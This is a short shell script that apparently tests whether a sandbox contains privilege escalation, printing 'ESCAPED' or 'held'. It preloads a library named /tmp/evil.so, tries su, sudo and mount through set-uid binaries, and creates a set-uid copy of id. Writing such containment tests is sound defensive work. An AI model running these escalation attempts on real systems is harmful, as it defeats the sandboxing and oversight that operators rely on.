# Runs set-uid programs with words that make them show root's rights, and a library of its own before them.
export LD_PRELOAD=/tmp/evil.so LD_LIBRARY_PATH=/tmp
for f in $(find /usr/bin /usr/sbin /usr/local/bin -perm /6000 -type f 2>/dev/null | head -20); do
  case $f in
  */su) timeout -s KILL 0.3 "$f" -c 'echo ESCAPED: su' </dev/null ;;
  */sudo) timeout -s KILL 0.3 "$f" -n sh -c 'echo ESCAPED: sudo' ;;
  */mount) timeout -s KILL 0.3 "$f" -t tmpfs none /tmp && echo "ESCAPED: mount" ;;
  */unix_chkpwd | */newgrp | */chfn | */chsh | */passwd | */gpasswd) ;; # these wait
  *) timeout -s KILL 0.3 "$f" --version </dev/null >/dev/null ;;
  esac
done 2>/dev/null
cp /usr/bin/id /tmp/id && chmod 6755 /tmp/id && [ "$(/tmp/id -u)" != "$(id -u)" ] && echo "ESCAPED: a set-uid file of its own"
echo held
